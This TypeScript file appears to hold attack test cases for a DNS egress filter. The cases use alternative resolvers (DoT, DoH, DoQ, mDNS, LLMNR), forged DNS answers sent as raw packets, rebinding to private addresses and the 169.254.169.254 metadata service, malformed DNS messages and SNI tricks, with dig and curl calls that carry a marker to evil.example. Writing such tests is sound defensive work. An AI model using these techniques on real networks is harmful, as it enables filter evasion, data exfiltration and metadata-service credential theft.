/** Rows D4 to D8: other resolvers, forged answers, rebinding, malformed messages, addresses that move. */
import type { Attack } from "../case.ts";
import type { Job } from "../job.ts";
import { bracketed } from "../job.ts";
import { hello, nameless, refused, unasked } from "../refusals.ts";
import { ip, protocols, send } from "../tcp/raw.ts";

const kind = "attack";
const marked = (job: Job, marker: string) =>
  unasked("default", { name: `${marker.toLowerCase()}.evil.example`, ip: job.otherResolver, port: 53 });

/** A UDP datagram of no socket's: RFC 768, checksum left out over IPv4 and made over IPv6 by nobody, so IPv4 only. */
function datagram(source: number, destination: number, payload: Uint8Array): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt16BE(source, 0);
  header.writeUInt16BE(destination, 2);
  header.writeUInt16BE(8 + payload.length, 4);
  return Buffer.concat([header, payload]);
}

/** An answer that nobody asked for: this name has the attacker's address. */
function forged(name: string): Buffer {
  const labels = name.split(".").map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)]));
  const head = Buffer.of(0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0);
  const question = Buffer.concat([...labels, Buffer.of(0, 0, 1, 0, 1)]);
  return Buffer.concat([head, question, Buffer.of(0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 0, 0, 4, 203, 0, 113, 66)]);
}

/** Sends a message as it is to the resolver. */
const ask = `
const [, server, hex] = process.argv;
const socket = require("dgram").createSocket(require("net").isIPv6(server) ? "udp6" : "udp4");
socket.on("message", () => process.exit()).on("error", () => process.exit());
socket.send(Buffer.from(hex, "hex"), 53, server);
setTimeout(() => process.exit(), 700);`;

/** D7: a malformed message with the marker in it, to the given resolver. */
const malformed = (variant: string, message: (marker: Buffer) => Buffer): Attack => ({
  kind,
  row: "D7",
  variant,
  run: (job, marker) => job.node(ask, [job.resolver, message(Buffer.from(marker)).toString("hex")]),
  refusal: (job) => ({ kind: "dns", reason: "query_malformed", destination: { ip: job.resolver, port: 53 } }),
});

const label = (marker: Buffer): Buffer => Buffer.concat([Buffer.of(marker.length), marker]);
const header = (flags: number, questions: number): Buffer =>
  Buffer.of(0, 7, flags >> 8, flags & 255, 0, questions, 0, 0, 0, 0, 0, 0);

export const answerCases: Attack[] = [
  {
    kind,
    row: "D4",
    variant: "another resolver",
    run: (job, marker) => job.dig(`@${job.otherResolver}`, `${marker}.evil.example`),
    refusal: marked,
  },
  {
    kind,
    row: "D4",
    variant: "another resolver over TCP",
    run: (job, marker) => job.dig(`@${job.otherResolver}`, "+tcp", `${marker}.evil.example`),
    refusal: marked,
  },
  {
    kind,
    row: "D4",
    variant: "another resolver on another port",
    run: (job, marker) => job.datagram(job.dot(66), 5300, marker),
    refusal: nameless(5300, "udp"),
    foretold: (job) => ({
      ...refused("no_name", { ip: job.dot(66), port: 5300, protocol: "udp" }, "name"),
      reason: /^(no_name|default)$/,
    }),
  },
  {
    kind,
    row: "D4",
    variant: "DNS over TLS",
    run: (job, marker) => job.tls(`${bracketed(job.otherResolver)}:853`, ["-servername", `${marker}.example`], ""),
    refusal: (job) => refused("no_name", { ip: job.otherResolver, port: 853, protocol: "tcp" }),
    foretold: (job, marker) =>
      refused("default", { name: `${marker.toLowerCase()}.example`, ip: job.otherResolver, port: 853 }, "name"),
  },
  {
    kind,
    row: "D4",
    variant: "DNS over HTTPS to a resolver by its address",
    run: (job, marker) =>
      job.curl(
        ...["--doh-insecure", "--doh-url", `https://${bracketed(job.otherResolver)}/dns-query`],
        `https://${marker}.evil.example/`,
      ),
    refusal: (job) => refused("no_name", { ip: job.otherResolver, port: 443, protocol: "tcp" }),
    foretold: (job) => refused("no_name", { ip: job.otherResolver, port: 443 }, "name"),
  },
  {
    kind,
    row: "D4",
    variant: "DNS over HTTPS to a resolver by its name",
    run: (job, marker) =>
      job.curl("--doh-insecure", "--doh-url", "https://resolver.example/dns-query", `https://${marker}.evil.example/`),
    refusal: unasked("default", { name: "resolver.example" }),
  },
  {
    kind,
    row: "D4",
    variant: "DNS over QUIC",
    run: (job, marker) => job.datagram(job.otherResolver, 853, marker),
    refusal: (job) => refused("no_name", { ip: job.otherResolver, port: 853, protocol: "udp" }),
    foretold: (job) => refused("default", { ip: job.otherResolver, port: 853, protocol: "udp" }, "name"),
  },
  ...(
    [
      ["mDNS", 5353, "224.0.0.251", "ff02::fb"],
      ["LLMNR", 5355, "224.0.0.252", "ff02::1:3"],
    ] as const
  ).map(([what, port, four, six]): Attack => ({
    kind,
    row: "D4",
    variant: what,
    run: (job, marker) => job.node(multicast, [job.v === 4 ? four : six, String(port), marker]),
    refusal: (job) => ({ kind: "connection", destination: { ip: job.v === 4 ? four : six, port } }),
    unreachable: "multicast on a link reaches no server of the internet",
  })),
  {
    kind,
    row: "D5",
    variant: "an answer for an allowed name, sent to us in the upstream's name",
    families: [4],
    run: async (job, marker) => {
      const packet = ip(job.resolver, job.nextHop, protocols.udp, datagram(53, 15_053, forged("v4only.example")));
      const beyond = ip(job.resolver, job.outside, protocols.udp, datagram(53, 33_333, forged("v4only.example")));
      send(job.machine, job.nextHop, packet);
      send(job.machine, job.outside, beyond);
      await job.curl("--connect-to", `::${job.at(66)}:443`, `https://v4only.example/${marker}`);
    },
    refusal: nameless(443),
    foretold: hello("v4only.example", "name_mismatch", 66),
  },
  {
    kind,
    row: "D5",
    variant: "an answer sent to our resolver's port as a question",
    run: async (job, marker) => {
      await job.node(ask, [job.resolver, forged("mail.example").toString("hex")]);
      await job.curl("--connect-to", `::${job.at(66)}:443`, `https://mail.example/${marker}`);
    },
    refusal: nameless(443),
    foretold: hello("mail.example", "name_mismatch", 66),
  },
  {
    kind,
    row: "D6",
    variant: "an allowed name that resolves to a private address",
    run: async (job, marker) => {
      await job.resolve("private.example");
      const address = job.v === 4 ? "10.0.0.5" : "[fd00::5]";
      await job.curl("--connect-to", `::${address}:443`, `https://private.example/${marker}`);
    },
    refusal: (job) => refused("private_address", { ip: job.v === 4 ? "10.0.0.5" : "fd00::5", port: 443 }),
    foretold: (job) =>
      refused("private_address", { name: "private.example", ip: job.v === 4 ? "10.0.0.5" : "fd00::5" }, "name"),
  },
  {
    kind,
    row: "D6",
    variant: "an allowed name that moves to the metadata service",
    families: [4],
    run: async (job, marker) => {
      const at = (data: string) => ({ records: [{ type: "A" as const, data, ttl: 0 }] });
      await job.lab.internet.dns.set("moving.example", at("203.0.113.71"));
      await job.resolve("moving.example");
      await job.lab.internet.dns.set("moving.example", at("169.254.169.254"));
      await job.resolve("moving.example");
      await job.curl("--connect-to", "::169.254.169.254:80", `http://moving.example/${marker}`);
    },
    refusal: refused("private_address", { ip: "169.254.169.254", port: 80 }),
    foretold: refused("private_address", { ip: "169.254.169.254", port: 80 }, "name"),
  },
  malformed("no question", (m) => Buffer.concat([header(0x0100, 0), m])),
  malformed("a name that points at itself", (m) =>
    Buffer.concat([header(0x0100, 1), label(m), Buffer.of(0xc0, 12, 0, 1, 0, 1)]),
  ),
  malformed("bytes behind the question", (m) =>
    Buffer.concat([header(0x0100, 1), Buffer.from("\u0007allowed\u0007example\0\0\u0001\0\u0001", "latin1"), m]),
  ),
  malformed("a label of 64 bytes", (m) =>
    Buffer.concat([header(0x0100, 1), Buffer.of(64), Buffer.alloc(48, "x"), m, Buffer.of(0, 0, 1, 0, 1)]),
  ),
  malformed("cut off in the name", (m) => Buffer.concat([header(0x0100, 1), Buffer.of(40), m])),
  malformed("two questions", (m) =>
    Buffer.concat([header(0x0100, 2), label(m), Buffer.of(0, 0, 1, 0, 1), label(m), Buffer.of(0, 0, 1, 0, 1)]),
  ),
  malformed("another opcode", (m) => Buffer.concat([header(0x2900, 1), label(m), Buffer.of(0, 0, 1, 0, 1)])),
  malformed("an answer instead of a question", (m) =>
    Buffer.concat([header(0x8180, 1), label(m), Buffer.of(0, 0, 1, 0, 1)]),
  ),
  {
    kind,
    row: "D8",
    variant: "the attacker's SNI at an address that an allowed name has left",
    families: [4],
    run: async (job, marker) => {
      const at = (data: string) => ({ records: [{ type: "A" as const, data, ttl: 1 }] });
      await job.lab.internet.host("203.0.113.73", ["short.example", "evil.example"]);
      await job.lab.internet.dns.set("short.example", at("203.0.113.73"));
      await job.resolve("short.example");
      await job.lab.internet.dns.set("short.example", at("203.0.113.72"));
      await job.curl("--connect-to", "::203.0.113.73:443", `https://evil.example/${marker}`);
    },
    refusal: hello("evil.example", "default", 73),
  },
];

const multicast = `
const [, host, port, text] = process.argv;
const six = host.includes(":");
const socket = require("dgram").createSocket(six ? "udp6" : "udp4");
socket.on("error", () => process.exit());
const link = Object.entries(require("os").networkInterfaces()).find(([name]) => name !== "lo")[0];
socket.bind(() => {
  if (six) socket.setMulticastInterface("::%" + link);
  socket.setMulticastTTL(8);
  socket.send(text, Number(port), host, () => setTimeout(() => process.exit(), 300));
});`;
